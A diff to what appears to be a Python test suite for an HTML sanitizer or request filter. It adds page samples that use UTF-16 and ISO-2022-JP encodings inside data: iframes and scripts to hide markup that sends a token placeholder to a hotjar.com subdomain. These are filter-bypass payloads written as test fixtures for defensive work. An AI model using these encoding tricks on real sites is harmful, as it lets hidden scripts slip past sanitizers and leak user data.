@@ -13,6 +13,20 @@ _IMG: Final = f"<img src={_S}>"
 _CLICK: Final = "document.querySelector('a,area,button,summary').click()"
 
 
+def _wide(text: str) -> str:
+    """Get text in UTF-16, percent-coded, which has no place for a token."""
+    return "".join(f"%{byte:02x}" for byte in text.encode("utf-16-le"))
+
+
+#: A page or script that says where its token is, as there is none in itself.
+_BY_HASH: Final = (
+    "<script>_hjSettings=1;new Image().src='https://'+location.hash.slice(1)+"
+    "'.hotjar.com/x'</script>"
+)
+_BY_NAME: Final = "_hjSettings=1;new Image().src='https://'+token+'.hotjar.com/x'"
+_SHIFTED: Final = "%1b$B<!--%1b(B" + _IMG + "-->"
+
+
 def _coded(text: str) -> str:
     """Get a percent-coding that a token can be put into."""
     return "".join(f"%{byte:02x}" for byte in text.encode()).replace("%40%40", "@@")
@@ -322,6 +336,50 @@ PAGES: Final = (
     live(
         "a drawing with a prefix in data:",
         '<iframe src=\'data:image/svg+xml,<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:image href="https:&#47;/@@.hotjar.com/x"/></s:svg>\'></iframe>',
+    ),
+    *(
+        live(
+            f"a page in data:, in UTF-16 {how}",
+            f"<iframe src='data:{page}#@@'></iframe>",
+        )
+        for how, page in [
+            ("by its charset", "text/html;charset=utf-16le," + _wide(_BY_HASH)),
+            ("by an old name", "text/html;charset=unicode," + _wide(_BY_HASH)),
+            ("by its mark", "text/html,%ff%fe" + _wide(_BY_HASH)),
+            (
+                "by its declaration",
+                "text/html," + _wide("<?xml version=1.0?>" + _BY_HASH),
+            ),
+        ]
+    ),
+    *(
+        live(
+            f"a page in data:, in ISO-2022-JP {how}",
+            f"<iframe src='data:{page}'></iframe>",
+        )
+        for how, page in [
+            ("by its charset", "text/html;charset=iso-2022-jp," + _SHIFTED),
+            ("by itself", "text/html,<meta charset=iso-2022-jp>" + _SHIFTED),
+            (
+                "by itself, late",
+                f'text/html,<meta content="{">" * 2000}"><meta charset=iso-2022-jp>'
+                + _SHIFTED,
+            ),
+        ]
+    ),
+    live(
+        "a script in data:, in UTF-16 by its charset",
+        "<script>token='@@'</script><script src='data:text/javascript;charset=utf-16le,"
+        f"{_wide(_BY_NAME)}'></script>",
+    ),
+    live(
+        "a script in data:, in UTF-16 by its mark",
+        f"<script>token='@@'</script><script src='data:,%ff%fe{_wide(_BY_NAME)}'></script>",
+    ),
+    live(
+        "a script in data:, in UTF-16 by its element",
+        "<script>token='@@'</script><script charset=utf-16le src='data:text/javascript,"
+        f"{_wide(_BY_NAME)}'></script>",
     ),
     inert("src beside srcdoc", f"<iframe src={_X} srcdoc='<p>a'></iframe>"),
     inert(
